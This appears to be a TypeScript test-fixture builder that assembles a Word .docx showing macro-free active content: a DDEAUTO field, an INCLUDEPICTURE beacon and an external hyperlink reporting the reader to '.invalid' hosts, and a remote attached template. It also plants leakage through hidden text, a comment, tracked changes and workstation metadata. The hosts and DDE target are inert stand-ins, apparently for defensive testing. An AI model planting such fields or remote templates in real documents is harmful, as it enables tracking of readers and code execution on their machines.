// A Word document without a macro that still acts and still tells: fields, outside addresses, comments, changes.

import { utf8 } from './bytes.ts';
import { type ZipEntry, zip } from './zip.ts';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const KIND = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const DATE = '2026-11-01T09:00:00Z';

function paragraph(...runs: readonly string[]): string {
  return `<w:p>${runs.join('')}</w:p>`;
}

function run(text: string, properties = ''): string {
  return `<w:r>${properties}<w:t xml:space="preserve">${text}</w:t></w:r>`;
}

/** A field whose instruction is carried out when the reader agrees to "update links". */
function field(instruction: string, shown: string): string {
  const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
  const order = `<w:r><w:instrText xml:space="preserve"> ${instruction} </w:instrText></w:r>`;
  return `${mark('begin')}${order}${mark('separate')}${run(shown)}${mark('end')}`;
}

const BODY = [
  paragraph(run('Rules of procedure, third draft', '<w:rPr><w:b/><w:sz w:val="32"/></w:rPr>')),
  paragraph(run('The sessions are chaired by the two heads of delegation in turn.')),
  paragraph(
    run('Decisions are taken by '),
    `<w:del w:id="1" w:author="Ana Example" w:date="${DATE}"><w:r><w:delText>consensus</w:delText></w:r></w:del>`,
    `<w:ins w:id="2" w:author="Ana Example" w:date="${DATE}">${run('a majority')}</w:ins>`,
    run(' of the members present.'),
  ),
  paragraph(
    '<w:commentRangeStart w:id="3"/>',
    run('The text is made in two languages, both equally binding.'),
    '<w:commentRangeEnd w:id="3"/><w:r><w:commentReference w:id="3"/></w:r>',
  ),
  paragraph(run('Hidden: we would settle for one language.', '<w:rPr><w:vanish/></w:rPr>')),
  paragraph(
    run('Number of members: '),
    field(String.raw`DDEAUTO parley-sample "/nonexistent/parley-sample" "A1"`, '12'),
  ),
  paragraph(field('INCLUDEPICTURE "http://secretariat.invalid/logo.png?who=reader" \\d', '[seal]')),
  paragraph(`<w:hyperlink r:id="rId2">${run('www.alpha-mfa.example')}</w:hyperlink>`),
].join('');

function xml(body: string): Uint8Array {
  return utf8(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${body}`);
}

function relationships(...entries: readonly string[]): Uint8Array {
  const items = entries.map((entry, index) => `<Relationship Id="rId${index + 1}" ${entry}/>`);
  return xml(`<Relationships xmlns="${PACKAGE}/relationships">${items.join('')}</Relationships>`);
}

/** Opens in any word processor; fetches a template, starts a program by DDE, and says what its author deleted. */
export function docxThatActs(): Uint8Array {
  const types = [
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
    '<Default Extension="xml" ContentType="application/xml"/>',
    `<Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/>`,
    `<Override PartName="/word/comments.xml" ContentType="${WORD}.comments+xml"/>`,
    `<Override PartName="/word/settings.xml" ContentType="${WORD}.settings+xml"/>`,
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>',
  ].join('');
  const entries: ZipEntry[] = [
    {
      name: '[Content_Types].xml',
      data: xml(`<Types xmlns="${PACKAGE}/content-types">${types}</Types>`),
    },
    {
      name: '_rels/.rels',
      data: relationships(
        `Type="${KIND}/officeDocument" Target="word/document.xml"`,
        `Type="${PACKAGE}/relationships/metadata/core-properties" Target="docProps/core.xml"`,
      ),
    },
    {
      name: 'word/document.xml',
      data: xml(`<w:document ${W} ${R}><w:body>${BODY}</w:body></w:document>`),
    },
    {
      name: 'word/_rels/document.xml.rels',
      data: relationships(
        `Type="${KIND}/comments" Target="comments.xml"`,
        `Type="${KIND}/hyperlink" Target="http://collect.invalid/?who=reader" TargetMode="External"`,
        `Type="${KIND}/settings" Target="settings.xml"`,
      ),
    },
    {
      name: 'word/comments.xml',
      data: xml(
        `<w:comments ${W}><w:comment w:id="3" w:author="Legal adviser" w:date="${DATE}">` +
          `${paragraph(run('They do not know that we have no translator.'))}</w:comment></w:comments>`,
      ),
    },
    {
      name: 'word/settings.xml',
      data: xml(
        `<w:settings ${W} ${R}><w:attachedTemplate r:id="rId1"/><w:trackRevisions/></w:settings>`,
      ),
    },
    {
      name: 'word/_rels/settings.xml.rels',
      data: relationships(
        `Type="${KIND}/attachedTemplate" Target="http://templates.invalid/rules.dotm" TargetMode="External"`,
      ),
    },
    {
      name: 'docProps/core.xml',
      data: xml(
        `<cp:coreProperties xmlns:cp="${PACKAGE}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">` +
          '<dc:creator>Ana Example</dc:creator><cp:lastModifiedBy>workstation ALPHA-0042</cp:lastModifiedBy>' +
          '<dc:title>Rules, internal version 3</dc:title></cp:coreProperties>',
      ),
    },
  ];
  return zip(entries);
}
